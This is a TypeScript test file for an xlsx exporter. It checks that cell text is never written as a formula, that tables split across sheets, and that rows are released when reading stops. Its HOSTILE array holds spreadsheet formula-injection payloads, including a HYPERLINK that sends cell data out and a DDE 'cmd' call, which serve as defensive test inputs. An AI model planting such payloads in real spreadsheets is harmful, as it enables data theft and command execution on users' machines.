import { strFromU8, unzipSync } from 'fflate';
import readWorkbook from 'read-excel-file/node';
import type { Row, Table } from './table.js';
import { xlsx } from './xlsx.js';

function table(name: string, columns: string[], batches: Row[][], onClose?: () => void): Table {
  async function* rows(): AsyncGenerator<readonly Row[]> {
    try {
      for (const batch of batches) yield await Promise.resolve(batch);
    } finally {
      onClose?.();
    }
  }
  return { name, columns, batches: rows() };
}

async function bytes(tables: Table[], maxRows?: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of xlsx(tables, maxRows)) chunks.push(chunk);
  return Buffer.concat(chunks);
}

const HOSTILE = [
  '=HYPERLINK("http://e/"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1',
  '"=1',
  '<b>&amp;</b> ]]>',
  ' blanks around ',
  'two\nlines',
  'carriage\rreturn',
  'Zoë 花子 😀',
  'half \ud83d',
  'control \u0001\u000b\uffff',
  'x'.repeat(40_000),
];
const AS_READ = [
  ...HOSTILE.slice(0, 7).map((text) => `'${text}`),
  ...HOSTILE.slice(7, 13),
  'half \ufffd',
  'control \ufffd\ufffd\ufffd',
  'x'.repeat(32_767),
];

describe('xlsx', () => {
  it('T38 has numbers as numbers, texts as they are, and no formula', async () => {
    const file = await bytes([table('people', ['id', 'name'], [HOSTILE.map((text, index) => [-1 - index, text])])]);

    const [sheet] = await readWorkbook(file, { trim: false });
    expect(sheet?.sheet).toBe('People');
    const [header, ...rows] = sheet?.data ?? [];
    expect(header).toEqual(['id', 'name']);
    expect(rows.map(([id]) => id)).toEqual(HOSTILE.map((_, index) => -1 - index));
    expect(rows.map(([, name]) => name)).toEqual(AS_READ);

    const parts = unzipSync(file);
    const text = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(text).toContain('<c r="B2" t="inlineStr">');
    expect(text).not.toMatch(/<f[\s>/]/);
  });

  it('keeps what looks like an escape apart from one', async () => {
    const file = await bytes([table('t', ['a'], [[['_x003D_1']]])]);
    expect(strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())).toContain('>_x005F_x003D_1<');
  });

  it('goes on in a further sheet with the same header, and has one for each table', async () => {
    const numbers = Array.from({ length: 7 }, (_, index): Row => [index]);
    const file = await bytes(
      [table('subscribers', ['n'], [numbers.slice(0, 5), numbers.slice(5)]), table('none', ['m'], [])],
      4,
    );
    const sheets = await readWorkbook(file);
    expect(sheets).toEqual([
      { sheet: 'Subscribers', data: [['n'], [0], [1], [2]] },
      { sheet: 'Subscribers (2)', data: [['n'], [3], [4], [5]] },
      { sheet: 'Subscribers (3)', data: [['n'], [6]] },
      { sheet: 'None', data: [['m']] },
    ]);
  });

  it('begins no further sheet that would be empty', async () => {
    const sheets = await readWorkbook(await bytes([table('t', ['n'], [[[1], [2], [3]]])], 4));
    expect(sheets).toHaveLength(1);
  });

  it('names columns beyond Z', async () => {
    const columns = Array.from({ length: 60 }, (_, index) => `c${index}`);
    const [sheet] = await readWorkbook(await bytes([table('t', columns, [[columns.map((_, index) => index)]])]));
    expect(sheet?.data).toEqual([columns, columns.map((_, index) => index)]);
  });

  it('fails when its rows fail', async () => {
    async function* failing(): AsyncGenerator<readonly Row[]> {
      yield await Promise.resolve([[1]]);
      throw new Error('the database is gone');
    }
    await expect(bytes([{ name: 't', columns: ['n'], batches: failing() }])).rejects.toThrow('the database is gone');
  });

  it('releases its rows when the reader has gone', async () => {
    let closed = false;
    const batches = Array.from({ length: 1_000 }, (): Row[] =>
      Array.from({ length: 100 }, (): Row => [Math.random(), String(Math.random())]),
    );
    for await (const chunk of xlsx([table('t', ['n', 'm'], batches, () => (closed = true))]))
      if (chunk.length > 1_000) break;
    expect(closed).toBe(true);
  });
});
